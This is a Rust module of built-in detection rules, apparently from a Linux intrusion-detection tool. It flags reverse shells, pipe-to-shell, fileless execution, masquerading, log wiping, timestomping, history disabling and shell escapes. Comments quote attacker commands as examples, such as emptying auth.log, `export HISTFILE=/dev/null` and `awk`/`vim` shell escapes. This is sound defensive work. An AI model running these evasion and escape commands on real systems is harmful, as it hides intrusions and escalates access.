//! Built-in behaviour rules. Each looks at one event with its process tree
//! and side state and returns findings; none looks at file names of test
//! scenarios, only at behaviour: who started whom, what a file is and who
//! wrote it, what a socket is.

use super::classify::*;
use super::provenance::{Origin, Provenance};
use super::Ctx;
use crate::model::event::{Exec, ExecDenied, Payload, Stdio};
use crate::model::{Finding, Severity};

/// Rule ids (stable).
pub mod ids {
    /// A server process started a shell, downloader, interpreter one-liner or recon tool.
    pub const SERVER_CHILD: &str = "server_spawned_suspicious_child";
    /// A file that came from the network was made executable or executed.
    pub const INGRESS: &str = "ingress_tool_transfer";
    /// A program runs under a name that is not its own.
    pub const MASQUERADE: &str = "masquerading";
    /// A program runs from a hidden directory.
    pub const HIDDEN_EXEC: &str = "exec_from_hidden_dir";
    /// A program runs from a temporary / world-writable directory.
    pub const TEMP_EXEC: &str = "exec_from_temp_dir";
    /// A program runs from memory (memfd) or from a deleted file.
    pub const FILELESS: &str = "fileless_execution";
    /// A shell whose standard input/output is a network socket.
    pub const REVERSE_SHELL: &str = "reverse_shell";
    /// A shell opened a network connection itself.
    pub const SHELL_CONNECT: &str = "shell_network_connection";
    /// A write to a persistence location.
    pub const PERSISTENCE: &str = "persistence_write";
    /// A program started with LD_PRELOAD.
    pub const LD_PRELOAD: &str = "ld_preload_injection";
    /// Setuid/setgid bit set on a file outside system directories.
    pub const SETUID: &str = "setuid_bit_set";
    /// A cryptocurrency miner.
    pub const MINER: &str = "cryptominer";
    /// Decoded or downloaded content piped into a shell.
    pub const PIPE_TO_SHELL: &str = "pipe_to_shell";
    /// The kernel refused an exec under the deny_exec policy.
    pub const EXEC_DENIED: &str = "exec_denied";
    /// A file written by a decoder was executed or made executable.
    pub const DECODED_EXEC: &str = "decoded_file_executed";
    /// An interpreter one-liner decodes data and runs it, without a file.
    pub const DECODE_AND_RUN: &str = "decode_and_execute";

    /// A log or a shell history emptied or shredded by a program that does
    /// not keep it.
    pub const LOG_TAMPERING: &str = "indicator_removal";

    /// A file's times set to chosen values where they hide a change.
    pub const TIMESTOMP: &str = "timestomp";
    /// Shell history switched off (environment or command string).
    pub const HISTORY_OFF: &str = "history_disabled";
    /// Another process's memory or registers written (`/proc/PID/mem`,
    /// ptrace pokes and register writes, `process_vm_writev`).
    pub const INJECTION: &str = "process_injection";
    /// A process that is not a debugger attached to one it did not start.
    pub const PTRACE_ATTACH: &str = "ptrace_attach";
    /// A kernel module loaded from outside the system's module trees.
    pub const MODULE_LOAD: &str = "kernel_module_load";
    /// A program that instruments the kernel loaded into BPF by a
    /// program that is not the system's.
    pub const BPF_LOAD: &str = "bpf_program_load";
    /// Anonymous memory made executable where no JIT explains it.
    pub const EXEC_MEMORY: &str = "anonymous_exec_memory";
    /// An interactive shell reading a pipe or a file, started through a
    /// program's command escape.
    pub const SHELL_ESCAPE: &str = "shell_escape";

    /// Every built-in rule.
    pub const ALL: &[&str] = &[
        SHELL_ESCAPE,
        LOG_TAMPERING,
        TIMESTOMP,
        HISTORY_OFF,
        INJECTION,
        PTRACE_ATTACH,
        MODULE_LOAD,
        BPF_LOAD,
        EXEC_MEMORY,
        SERVER_CHILD,
        INGRESS,
        MASQUERADE,
        HIDDEN_EXEC,
        TEMP_EXEC,
        FILELESS,
        REVERSE_SHELL,
        SHELL_CONNECT,
        PERSISTENCE,
        LD_PRELOAD,
        SETUID,
        MINER,
        PIPE_TO_SHELL,
        EXEC_DENIED,
        DECODED_EXEC,
        DECODE_AND_RUN,
    ];
}

pub(super) fn finding(
    rule: &str,
    severity: Severity,
    mitre: &[&str],
    summary: String,
    never_suppress: bool,
    object: &str,
) -> Finding {
    Finding {
        rule: rule.into(),
        source: "builtin",
        severity,
        mitre: mitre.iter().map(|s| s.to_string()).collect(),
        summary,
        never_suppress,
        object: object.into(),
    }
}

/// Runs every built-in rule on the event.
pub fn run_all(ctx: &mut Ctx<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    match &ctx.ev.event.payload {
        Payload::Exec(x) => {
            server_child(ctx, x, &mut out);
            ingress_exec(ctx, x, &mut out);
            masquerade(ctx, x, &mut out);
            exec_location(x, &mut out);
            fileless(x, &mut out);
            reverse_shell(ctx, x, &mut out);
            ld_preload(x, &mut out);
            miner_exec(ctx, x, &mut out);
            pipe_to_shell(ctx, x, &mut out);
            shell_escape(ctx, x, &mut out);
            decode_and_run(x, &mut out);
            history_disabled(ctx, x, &mut out);
        }
        Payload::Connect(c) => {
            if let Some(argv) = &c.rewritten_argv {
                argv_rewritten(ctx, argv, &mut out);
            }
            let exe = &ctx.ev.process.image.exe;
            if is_shell(ctx.ev.process.image.identity()) && !c.daddr.is_unspecified() {
                out.push(finding(
                    ids::SHELL_CONNECT,
                    Severity::High,
                    &["T1095", "T1059.004"],
                    format!("shell {exe} connected to {}:{} itself", c.daddr, c.dport),
                    false,
                    "",
                ));
            }
            let argv = &ctx.ev.process.image.argv;
            let named = is_miner_name(basename(exe))
                || argv.first().is_some_and(|a| is_miner_name(basename(a)));
            if is_pool_port(c.dport) && (named || miner_argument(argv).is_some()) {
                out.push(finding(
                    ids::MINER,
                    Severity::High,
                    &["T1496"],
                    format!("miner {exe} connected to pool port {}:{}", c.daddr, c.dport),
                    true,
                    "",
                ));
            }
        }
        Payload::Listen(l) => {
            if let Some(argv) = &l.rewritten_argv {
                argv_rewritten(ctx, argv, &mut out);
            }
        }
        Payload::ExecDenied(d) => exec_denied(ctx, d, &mut out),
        Payload::Utimes(u) => timestomp(ctx, &u.path, &mut out),
        Payload::Comm(c) => renamed(ctx, c, &mut out),
        Payload::FileOpen(f) => {
            // An io_uring open seen before it ran, whose file did not
            // visibly change: an attempt.
            let verb = if f.io_uring && f.ino == 0 {
                "tried to write"
            } else {
                "wrote"
            };
            persistence(&f.path, verb, ctx, &mut out);
            log_tampering(ctx, f, &mut out);
            proc_mem_write(ctx, &f.path, &mut out);
        }
        Payload::Rename(r) => {
            persistence(&r.new_path, "renamed a file into", ctx, &mut out);
            log_replaced(ctx, &r.new_path, "rewrote", &mut out);
        }
        Payload::Unlink(u) => log_replaced(ctx, &u.path, "deleted", &mut out),
        Payload::ProcessAccess(a) => super::inject::process_access(ctx, a, &mut out),
        Payload::ModuleLoad(m) => super::inject::module_load(ctx, m, &mut out),
        Payload::BpfLoad(b) => super::inject::bpf_load(ctx, b, &mut out),
        Payload::ExecMem(x) => super::inject::exec_memory(ctx, x, &mut out),
        Payload::Chmod(c) => {
            persistence(&c.path, "changed the mode of", ctx, &mut out);
            if c.mode & 0o6000 != 0 && !in_system_dir(&c.path) {
                out.push(finding(
                    ids::SETUID,
                    Severity::High,
                    &["T1548.001"],
                    format!(
                        "{} set the {} bit on {} (mode {:o})",
                        ctx.ev.process.image.exe,
                        if c.mode & 0o4000 != 0 {
                            "setuid"
                        } else {
                            "setgid"
                        },
                        c.path,
                        c.mode
                    ),
                    false,
                    &c.path,
                ));
            }
            if c.mode & 0o111 != 0 {
                ingress_chmod(ctx, &c.path, &mut out);
            }
        }
        _ => {}
    }
    out
}

/// An exec the kernel refused (deny_exec, BPF LSM): what the freeze would
/// have stopped, stopped earlier. The process that tried keeps its old
/// image: for a server's child that is a copy of the server, whose memory
/// the capture takes.
fn exec_denied(ctx: &Ctx<'_>, d: &ExecDenied, out: &mut Vec<Finding>) {
    let (mitre, why): (&[&str], String) = match d.policy {
        "memfd" => (&["T1620"], "a program from memory (memfd)".into()),
        _ => {
            let server = serving_ancestor(ctx, d.ppid)
                .map(|(pid, exe)| format!(" by server {exe} ({pid})"))
                .unwrap_or_default();
            (
                &["T1190", "T1059"],
                format!("a shell or network tool{server}"),
            )
        }
    };
    out.push(finding(
        ids::EXEC_DENIED,
        Severity::High,
        mitre,
        format!(
            "the kernel refused to run {} ({why}; deny_exec {})",
            if d.filename.is_empty() {
                &d.exe
            } else {
                &d.filename
            },
            d.policy
        ),
        true,
        &d.exe,
    ));
}

/// Walks up from `ppid` through at most 3 shells to a process that serves.
fn serving_ancestor(ctx: &Ctx<'_>, ppid: u32) -> Option<(u32, String)> {
    let mut cur = ppid;
    for _ in 0..4 {
        let p = ctx.tree.get(cur)?;
        if p.serves {
            return Some((p.pid, p.image.exe.clone()));
        }
        if !is_shell(p.image.identity()) {
            return None;
        }
        cur = p.ppid;
    }
    None
}

fn server_child(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    let what = if is_shell(x.identity()) {
        "a shell"
    } else if is_downloader(x.identity()) {
        "a downloader"
    } else if is_interpreter_one_liner(x.identity(), &x.argv) {
        "an interpreter one-liner"
    } else if is_recon(x.identity()) {
        "a reconnaissance tool"
    } else {
        return;
    };
    // A shell must be a direct child of the server; tools may sit under the
    // server's shells.
    let server = if is_shell(x.identity()) {
        ctx.tree
            .get(ctx.ev.process.ppid)
            .filter(|p| p.serves)
            .map(|p| (p.pid, p.image.exe.clone()))
    } else {
        serving_ancestor(ctx, ctx.ev.process.ppid)
    };
    let Some((spid, sexe)) = server else { return };
    let mitre: &[&str] = if is_shell(x.identity()) {
        &["T1059.004", "T1190"]
    } else {
        &["T1059", "T1190"]
    };
    out.push(finding(
        ids::SERVER_CHILD,
        Severity::High,
        mitre,
        format!(
            "server {sexe} (pid {spid}) started {what}: {}",
            x.argv.join(" ")
        ),
        false,
        "",
    ));
}

/// The finding for running (or making executable) content that came from
/// the network or a decoder: `what` says what was done to `path`.
fn provenance_finding(p: &Provenance, what: String, path: &str) -> Finding {
    let (rule, mitre): (&str, &[&str]) = match p.origin {
        Origin::Network => (ids::INGRESS, &["T1105"]),
        Origin::Decoded => (ids::DECODED_EXEC, &["T1140", "T1027"]),
    };
    finding(
        rule,
        Severity::High,
        mitre,
        format!(
            "{what}; it was written by {} (pid {}), which {}",
            p.writer.exe,
            p.pid,
            p.origin.verb()
        ),
        false,
        path,
    )
}

fn ingress_exec(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    // The program itself, by inode (a rename or a move keeps it).
    if let Some(p) = ctx.state.files.file((x.exe_dev, x.exe_ino)) {
        if !p.reported {
            p.reported = true;
            let path = if p.path.is_empty() {
                x.exe.clone()
            } else {
                p.path.clone()
            };
            let p = p.clone();
            out.push(provenance_finding(&p, format!("{} runs", x.exe), &path));
        }
    }
    // A script handed to its interpreter: `#!` (`script`) or on the
    // command line (`sh FILE`, `python3 FILE`), by path.
    let operand = x
        .script
        .clone()
        .or_else(|| script_operand(x.identity(), &x.argv).map(|s| absolute(ctx.ev.event.pid, s)));
    let Some(script) = operand else { return };
    if let Some(p) = ctx.state.files.at_path(&script) {
        if !p.reported {
            p.reported = true;
            let p = p.clone();
            let mut f =
                provenance_finding(&p, format!("{} runs the script {script}", x.exe), &script);
            f.mitre.push(
                if is_shell(x.identity()) {
                    "T1059.004"
                } else {
                    "T1059"
                }
                .into(),
            );
            out.push(f);
        }
    }
}

/// `path` made absolute against `pid`'s working directory (as it is now).
pub(super) fn absolute(pid: u32, path: &str) -> String {
    if path.starts_with('/') {
        return path.to_string();
    }
    match std::fs::read_link(format!("/proc/{pid}/cwd")) {
        Ok(cwd) => crate::model::normalize_path(&cwd.join(path).to_string_lossy()),
        Err(_) => path.to_string(),
    }
}

fn ingress_chmod(ctx: &mut Ctx<'_>, path: &str, out: &mut Vec<Finding>) {
    let Some(p) = ctx.state.files.at_path(path) else {
        return;
    };
    if p.reported {
        return;
    }
    p.reported = true;
    let p = p.clone();
    out.push(provenance_finding(
        &p,
        format!("{} made {path} executable", ctx.ev.process.image.exe),
        path,
    ));
}

/// Masquerading, decided by name, place and provenance: a system daemon's
/// name outside the system's directories, a tool's name in a place no
/// installed tool lives (hidden directory, temp root, a deleted or fetched
/// file), fetched or decoded content placed in a system directory, a
/// kernel thread's look, a deceptive file name. Only the tool-name case may
/// be learned by the baseline (a user's own `htop` build).
fn masquerade(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    let exe_name = basename(&x.exe);
    let argv0 = x.argv.first().map(|a| basename(a)).unwrap_or("");
    let real_file = !x.exe.starts_with("/memfd:") && !x.exe.is_empty();
    let system = in_system_dir(&x.exe);
    let provenance = ctx.state.files.peek_file((x.exe_dev, x.exe_ino));
    let odd_place = hidden_dir_component(&x.exe).is_some()
        || in_temp_dir(&x.exe)
        || x.exe_deleted
        || provenance.is_some();
    // (why, never suppressed)
    let mut why: Option<(String, bool)> = None;
    let borrowed = |name: &str| is_daemon_name(name) || (is_tool_name(name) && odd_place);
    if let Some(p) = provenance.filter(|_| real_file && system) {
        // Content fetched or decoded by a user's tool does not belong in a
        // system directory under a system-looking name.
        why = Some((
            format!(
                "{} runs from the system directory {}, but was written by {} (pid {}), which {}",
                x.exe,
                dirname(&x.exe),
                p.writer.exe,
                p.pid,
                p.origin.verb()
            ),
            true,
        ));
    } else if real_file && !system && borrowed(exe_name) {
        why = Some((
            format!(
                "{} carries the name of a system program but runs from {}",
                exe_name,
                dirname(&x.exe)
            ),
            is_daemon_name(exe_name),
        ));
    } else if looks_like_kernel_thread(x.argv.first().map(String::as_str).unwrap_or("")) {
        why = Some((
            format!("{} calls itself {} like a kernel thread", x.exe, x.argv[0]),
            true,
        ));
    } else if !argv0.is_empty() && argv0 != exe_name && !system && borrowed(argv0) {
        why = Some((
            format!("{} runs as \"{}\", a system program's name", x.exe, argv0),
            is_daemon_name(argv0),
        ));
    } else if deceptive_name(exe_name)
        || x.script
            .as_deref()
            .is_some_and(|s| deceptive_name(basename(s)))
    {
        why = Some((
            format!(
                "{} has a deceptive file name",
                x.script.as_deref().unwrap_or(&x.exe)
            ),
            true,
        ));
    }
    if let Some((why, never_suppress)) = why {
        out.push(finding(
            ids::MASQUERADE,
            Severity::High,
            &["T1036.005"],
            why,
            never_suppress,
            "",
        ));
    } else if let Some(orig) = x.copy_of.as_deref().filter(|o| basename(o) != exe_name) {
        // A system utility copied and renamed: the name hides what it is
        // (a shell called "worker", curl in a memfd).
        out.push(finding(
            ids::MASQUERADE,
            Severity::High,
            &["T1036.003"],
            format!("{} is a renamed copy of {orig}", x.exe),
            false,
            "",
        ));
    }
}

fn exec_location(x: &Exec, out: &mut Vec<Finding>) {
    let target = x.script.as_deref().unwrap_or(&x.exe);
    if let Some(dir) = hidden_dir_component(target) {
        out.push(finding(
            ids::HIDDEN_EXEC,
            Severity::Medium,
            &["T1564.001"],
            format!("{target} runs from the hidden directory {dir}"),
            false,
            "",
        ));
    }
    if in_temp_dir(target) {
        // Where a program runs from is no technique of its own: a binary
        // gets no ATT&CK id (so this cannot stand in for masquerading or a
        // server's shell in a scenario's expectations); a script run from
        // there is a script interpreter at work (T1059, .004 for a shell).
        let mitre: &[&str] = match &x.script {
            Some(_) if is_shell(x.identity()) => &["T1059.004"],
            Some(_) => &["T1059"],
            None => &[],
        };
        out.push(finding(
            ids::TEMP_EXEC,
            Severity::Medium,
            mitre,
            format!("{target} runs from a temporary, world-writable directory"),
            false,
            "",
        ));
    }
}

fn fileless(x: &Exec, out: &mut Vec<Finding>) {
    if x.exe_memfd || x.exe.starts_with("/memfd:") {
        out.push(finding(
            ids::FILELESS,
            Severity::Critical,
            &["T1620", "T1027"],
            format!(
                "{} runs from an anonymous memory file (memfd): no file on disk",
                x.exe
            ),
            true,
            "",
        ));
    } else if x.exe_deleted {
        out.push(finding(
            ids::FILELESS,
            Severity::High,
            &["T1620", "T1070.004"],
            format!("{} runs from a file already deleted from disk", x.exe),
            true,
            "",
        ));
    }
}

fn reverse_shell(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    let shell_like = is_shell(x.identity())
        || (is_interpreter(x.identity()) && x.argv.iter().skip(1).any(|a| a == "-i"));
    if !shell_like {
        return;
    }
    let net_stdio = x.stdio[..2].contains(&Stdio::InetSocket);
    if net_stdio {
        out.push(finding(
            ids::REVERSE_SHELL,
            Severity::Critical,
            &["T1059.004"],
            format!(
                "{} runs with its standard input/output connected to a network socket",
                x.argv.join(" ")
            ),
            true,
            "",
        ));
        return;
    }
    // An interpreter that just connected out hands an interactive shell a pty.
    let interactive = shell_command(x.identity(), &x.argv).is_none() && x.script.is_none();
    if interactive && x.stdio[0] == Stdio::CharDevice {
        if let Some(parent) = ctx.tree.get(ctx.ev.process.ppid) {
            if is_interpreter(&parent.image.exe)
                && ctx
                    .state
                    .connected_recently(parent.pid, ctx.ev.event.boot_ns, 30_000_000_000)
            {
                out.push(finding(
                    ids::REVERSE_SHELL,
                    Severity::Critical,
                    &["T1059.004", "T1059.006"],
                    format!(
                        "{} (pid {}) connected out, then started an interactive shell",
                        parent.image.exe, parent.pid
                    ),
                    true,
                    "",
                ));
            }
        }
    }
}

fn persistence(path: &str, verb: &str, ctx: &Ctx<'_>, out: &mut Vec<Finding>) {
    if let Some((tech, what)) = persistence_target(path) {
        out.push(finding(
            ids::PERSISTENCE,
            Severity::High,
            &[tech],
            format!("{} {verb} {what} {path}", ctx.ev.process.image.exe),
            false,
            path,
        ));
    }
}

/// Emptying a log (a truncating open: `> /var/log/auth.log`, `cp
/// /dev/null`, `dd`) or opening it with an eraser (`shred`, `truncate`) by
/// a program that does not keep logs (a rotator, a log daemon, a package
/// manager). History files are judged only by erasers: shells rewrite
/// their own history when they exit.
/// A log or shell history deleted, or replaced by a rename (`sed -i`
/// edits in place that way), by a program that does not keep logs.
fn log_replaced(ctx: &Ctx<'_>, path: &str, how: &str, out: &mut Vec<Finding>) {
    let Some((tech, what)) = log_kind(path) else {
        return;
    };
    let exe = &ctx.ev.process.image.exe;
    if is_log_keeper(exe) {
        return;
    }
    out.push(finding(
        ids::LOG_TAMPERING,
        Severity::High,
        &[tech, "T1070"],
        format!("{exe} {how} {what} {path}"),
        false,
        path,
    ));
}

fn log_tampering(ctx: &Ctx<'_>, f: &crate::model::event::FileOpen, out: &mut Vec<Finding>) {
    const O_TRUNC: u32 = 0o1000;
    let Some((tech, what)) = log_kind(&f.path) else {
        return;
    };
    let exe = &ctx.ev.process.image.exe;
    let eraser = is_eraser(exe);
    let truncated = f.flags & O_TRUNC != 0;
    let history = tech == "T1070.003";
    if is_log_keeper(exe) || !(eraser || (truncated && !history)) {
        return;
    }
    out.push(finding(
        ids::LOG_TAMPERING,
        Severity::High,
        &[tech, "T1070"],
        format!(
            "{exe} {} {what} {}",
            if eraser { "erased" } else { "emptied" },
            f.path
        ),
        false,
        &f.path,
    ));
}

/// Times set to chosen values (`touch -r /bin/ls f`, `touch -t`,
/// `os.utime`) on a file where they hide a change: a program or library in
/// a system directory, a persistence file, a file fetched or decoded, or
/// one in a hidden directory or temp root. Installers, unpackers and copies
/// that preserve times are not timestomping.
fn timestomp(ctx: &mut Ctx<'_>, path: &str, out: &mut Vec<Finding>) {
    let exe = ctx.ev.process.image.exe.clone();
    if preserves_times(&exe) {
        return;
    }
    let why = if let Some(p) = ctx.state.files.at_path(path) {
        Some(format!(
            "written by {}, which {}",
            p.writer.exe,
            p.origin.verb()
        ))
    } else if let Some((_, what)) = persistence_target(path) {
        Some(format!("a persistence file ({what})"))
    } else if in_system_dir(path) {
        Some("in a system directory".to_string())
    } else if hidden_dir_component(path).is_some() || in_temp_dir(path) {
        Some("in a hidden or temporary directory".to_string())
    } else {
        None
    };
    let Some(why) = why else { return };
    out.push(finding(
        ids::TIMESTOMP,
        Severity::Medium,
        &["T1070.006"],
        format!("{exe} set the times of {path} ({why}) to chosen values"),
        false,
        path,
    ));
}

/// A process that renamed itself after exec to a kernel thread's or a
/// system daemon's name (`prctl(PR_SET_NAME)`), or whose rewritten command
/// line now looks like a kernel thread: what `ps` and `top` show is a
/// disguise. A program taking its own name (cut to 15 bytes) is not.
/// A process that wrote over its command line after exec, without renaming
/// itself (seen at its first connect or listen), to pass for a kernel
/// thread or a system daemon it is not (`[kworker/0:1]`, `sshd: root`).
/// Servers naming their own processes (`nginx: worker process`,
/// `postgres: checkpointer`) keep their program's name and pass.
fn argv_rewritten(ctx: &Ctx<'_>, argv: &[String], out: &mut Vec<Finding>) {
    let exe = &ctx.ev.process.image.exe;
    let shown = argv.first().map(|a| a.trim()).unwrap_or("");
    let kthread = looks_like_kernel_thread(shown);
    // "sshd: root@pts/0": the name is the first word.
    let name = if kthread {
        shown
    } else {
        basename(shown.split([' ', ':']).next().unwrap_or(""))
    };
    if !shows_borrowed_name(exe, name, kthread) {
        return;
    }
    out.push(masquerade_after_exec(format!(
        "{exe} rewrote its command line to \"{}\" (started as \"{}\")",
        argv.join(" "),
        ctx.ev.process.image.argv.join(" ")
    )));
}

fn renamed(ctx: &Ctx<'_>, c: &crate::model::event::CommChange, out: &mut Vec<Finding>) {
    let exe = &ctx.ev.process.image.exe;
    let new = c.new_comm.trim();
    let argv0 = c.argv.first().map(String::as_str).unwrap_or("");
    let kthread = looks_like_kernel_thread(argv0) || looks_like_kernel_thread(new);
    if !shows_borrowed_name(exe, new, kthread) {
        return;
    }
    out.push(masquerade_after_exec(format!(
        "{exe} renamed itself \"{new}\" (was \"{}\"){}",
        ctx.ev.event.comm,
        if argv0.is_empty() {
            String::new()
        } else {
            format!(" and shows the command line \"{}\"", c.argv.join(" "))
        }
    )));
}

/// Whether `name`, shown by a process running `exe` after it started (its
/// new comm or argv[0]), passes it for something it is not: a kernel thread
/// (`kthread`), or a daemon whose name is not its executable's.
fn shows_borrowed_name(exe: &str, name: &str, kthread: bool) -> bool {
    let exe_name = basename(exe);
    if name.is_empty() || exe_name.starts_with(name) || name.starts_with(exe_name) {
        return false;
    }
    kthread || is_daemon_name(name)
}

/// A masquerade noticed after exec (a rename or a rewritten command line).
fn masquerade_after_exec(what: String) -> Finding {
    finding(
        ids::MASQUERADE,
        Severity::High,
        &["T1036.005"],
        what,
        true,
        "",
    )
}

/// Another process's memory opened for writing through
/// `/proc/PID/mem` (code injected into a running process, T1055.009).
/// Debuggers do this as their job; a process writing its own memory is
/// not injection.
fn proc_mem_write(ctx: &Ctx<'_>, path: &str, out: &mut Vec<Finding>) {
    let Some(target) = path
        .strip_prefix("/proc/")
        .and_then(|r| r.strip_suffix("/mem"))
        .and_then(|p| p.parse::<u32>().ok())
    else {
        return;
    };
    let e = &ctx.ev.event;
    let exe = &ctx.ev.process.image.exe;
    if target == e.pid
        || is_system_debugger(exe)
        || super::inject::is_descendant(ctx.tree, target, e.pid)
    {
        return;
    }
    let victim = ctx
        .tree
        .get(target)
        .map(|p| p.image.exe.clone())
        .unwrap_or_else(|| "?".into());
    out.push(finding(
        ids::INJECTION,
        Severity::Critical,
        &["T1055.009"],
        format!("{exe} opened the memory of process {target} ({victim}) for writing"),
        true,
        path,
    ));
}

fn ld_preload(x: &Exec, out: &mut Vec<Finding>) {
    if let Some(lib) = x.ld_preload.as_deref().filter(|l| !l.trim().is_empty()) {
        out.push(finding(
            ids::LD_PRELOAD,
            Severity::High,
            &["T1574.006"],
            format!("{} started with LD_PRELOAD={lib}", x.exe),
            false,
            lib,
        ));
    }
}

fn miner_exec(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    let argv0 = x.argv.first().map(|a| basename(a)).unwrap_or("");
    let name = [basename(&x.exe), argv0, ctx.ev.event.comm.as_str()]
        .into_iter()
        .find(|n| is_miner_name(n));
    let arg = miner_argument(&x.argv);
    if name.is_some() || arg.is_some() {
        out.push(finding(
            ids::MINER,
            Severity::Critical,
            &["T1496"],
            match (name, arg) {
                (Some(n), Some(a)) => format!("miner {n} started with pool argument {a}"),
                (Some(n), None) => format!("{} runs under the miner name {n}", x.exe),
                (None, Some(a)) => format!("{} started with mining argument {a}", x.exe),
                (None, None) => unreachable!(),
            },
            true,
            "",
        ));
    }
}

fn pipe_finding(kind: Origin, detail: String) -> Finding {
    let (mitre, what): (&[&str], _) = match kind {
        Origin::Decoded => (&["T1140", "T1027", "T1059.004"], "decoded"),
        Origin::Network => (&["T1105", "T1059.004"], "downloaded"),
    };
    finding(
        ids::PIPE_TO_SHELL,
        Severity::High,
        mitre,
        format!("{what} content is fed to a shell: {detail}"),
        false,
        "",
    )
}

/// A shell reading its commands from standard input (not `sh -c`).
fn shell_reading_input(exe: &str, argv: &[String]) -> bool {
    is_shell(exe) && shell_command(exe, argv).is_none() && script_operand(exe, argv).is_none()
}

fn pipe_to_shell(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    // The whole pipeline in one `sh -c` string: judged before any of its
    // processes run (the freeze can stop the shell there).
    if let Some(cmd) = shell_command(x.identity(), &x.argv) {
        if let Some(kind) = pipes_into_shell(&cmd) {
            let kind = if kind == "decode" {
                Origin::Decoded
            } else {
                Origin::Network
            };
            out.push(pipe_finding(kind, cmd));
            return;
        }
    }
    // Processes joined by one pipe, the writer carrying fetched or decoded
    // content, the reader a shell (either may exec first).
    let e = &ctx.ev.event;
    for j in ctx.state.joins.clone() {
        let reader = if j.reader_pid == e.pid {
            Some((x.exe.clone(), x.identity().to_string(), x.argv.clone()))
        } else {
            ctx.tree.get(j.reader_pid).map(|p| {
                (
                    p.image.exe.clone(),
                    p.image.identity().to_string(),
                    p.image.argv.clone(),
                )
            })
        };
        let Some((rexe, ridentity, rargv)) = reader else {
            continue;
        };
        if shell_reading_input(&ridentity, &rargv) {
            out.push(pipe_finding(
                j.taint.origin,
                format!(
                    "{} (pid {}) into {} (pid {})",
                    j.taint.source.exe, j.taint.source_pid, rexe, j.reader_pid
                ),
            ));
            return;
        }
    }
    // A wrapper read the pipe and started the shell (`| sudo bash`, where
    // sudo may hand the shell a terminal of its own instead of the pipe).
    if shell_reading_input(x.identity(), &x.argv) {
        let parent = ctx.tree.get(ctx.ev.process.ppid);
        if let Some(p) = parent.filter(|p| is_wrapper(&p.image.exe)) {
            if let Some(t) = ctx.state.files.taint(p.pid).cloned() {
                out.push(pipe_finding(
                    t.origin,
                    format!(
                        "{} (pid {}) into {} through {}",
                        t.source.exe, t.source_pid, x.exe, p.image.exe
                    ),
                ));
            }
        }
    }
}

/// A shell started through another program's command escape (`awk
/// 'BEGIN{system("/bin/sh")}'`, `find . -exec /bin/sh \;`, `vim -c ':!sh'`,
/// an interpreter's `os.system("sh")`): an interactive shell (no command, no
/// script) whose input is a pipe, a file or a Unix socket (so not a
/// person's terminal: commands fed in by something else), whose nearest
/// ancestor, looking through wrappers (`env`, `sudo`, `timeout`, ...) and a
/// `sh -c` that only starts the shell, is a program with a command escape.
/// A network socket as input is a reverse shell, reported as such.
fn shell_escape(ctx: &Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    if !shell_reading_input(x.identity(), &x.argv) {
        return;
    }
    let input = match x.stdio[0] {
        Stdio::Pipe => "a pipe",
        Stdio::File => "a file",
        Stdio::UnixSocket | Stdio::OtherSocket => "a local socket",
        _ => return,
    };
    let mut pid = ctx.ev.process.ppid;
    let mut via = Vec::new();
    for _ in 0..8 {
        let Some(p) = ctx.tree.get(pid) else {
            return;
        };
        let id = p.image.identity();
        let passes = is_wrapper(id)
            || (is_shell(id)
                && shell_command(id, &p.image.argv).is_some_and(|c| only_starts_a_shell(&c)));
        if passes {
            via.push(basename(&p.image.exe).to_string());
            pid = p.ppid;
            continue;
        }
        if !has_command_escape(id) {
            return;
        }
        let through = if via.is_empty() {
            String::new()
        } else {
            format!(" (through {})", via.join(", "))
        };
        // `sudo vim` then `:!sh`: a shell with sudo's rights.
        let mut mitre = vec!["T1059.004", "T1202"];
        if ctx
            .tree
            .get(p.ppid)
            .is_some_and(|g| matches!(basename(g.image.identity()), "sudo" | "doas"))
        {
            mitre.push("T1548.003");
        }
        out.push(finding(
            ids::SHELL_ESCAPE,
            Severity::High,
            &mitre,
            format!(
                "{} (pid {}) started the shell {}{through} through a command escape; the shell reads {input}",
                p.image.exe, p.pid, x.exe
            ),
            false,
            "",
        ));
        return;
    }
}

/// Shell history switched off, so that what follows leaves no trace in
/// `~/.bash_history` (T1562.003): a shell command string that does it, or
/// an environment that carries it (`export HISTFILE=/dev/null` in an
/// interactive session shows in every later child's environment). Once per
/// session: the parent of the first process seen is remembered, and what
/// descends from it is not reported again.
fn history_disabled(ctx: &mut Ctx<'_>, x: &Exec, out: &mut Vec<Finding>) {
    let statement = shell_command(x.identity(), &x.argv).and_then(|c| disables_history(&c));
    if statement.is_none() && !x.history_off {
        return;
    }
    let seen = &mut ctx.state.history_off;
    if ctx.ev.ancestry.iter().any(|a| seen.contains(&a.pid)) {
        return;
    }
    // A command string marks its own process; an inherited environment
    // marks the session it came from (the parent that exported it).
    let session = if statement.is_some() {
        ctx.ev.event.pid
    } else {
        ctx.ev.process.ppid
    };
    seen.put(session, ());
    let how = match statement {
        Some(s) => format!("runs \"{s}\""),
        None => "starts with history switched off in its environment".into(),
    };
    // High: hiding the session's commands is what an intruder does before
    // working, and it asks for evidence of the session's shell.
    out.push(finding(
        ids::HISTORY_OFF,
        Severity::High,
        &["T1562.003"],
        format!("{} {how}", x.exe),
        false,
        "",
    ));
}

/// An interpreter one-liner that decodes data and runs it as code or a
/// command, leaving no file behind.
fn decode_and_run(x: &Exec, out: &mut Vec<Finding>) {
    if decodes_and_runs(x.identity(), &x.argv) {
        out.push(finding(
            ids::DECODE_AND_RUN,
            Severity::High,
            &["T1140", "T1027", "T1059"],
            format!(
                "{} decodes data and runs it in one step: {}",
                x.exe,
                crate::detect::normalize::argv_shape(&x.argv)
            ),
            false,
            "",
        ));
    }
}

#[cfg(test)]
mod tests {
    //! Detectors on synthetic trees, with near misses that must stay quiet.
    use std::time::Duration;

    use super::*;
    use crate::detect::DetectState;
    use crate::model::event::{Chmod, Connect, Event, FileOpen};
    use crate::model::workload::Workload;
    use crate::model::{EnrichedEvent, ProcessView};
    use crate::tree::ProcessTree;
    use std::sync::Arc;

    struct World {
        tree: ProcessTree,
        state: DetectState,
        t: u64,
    }

    impl World {
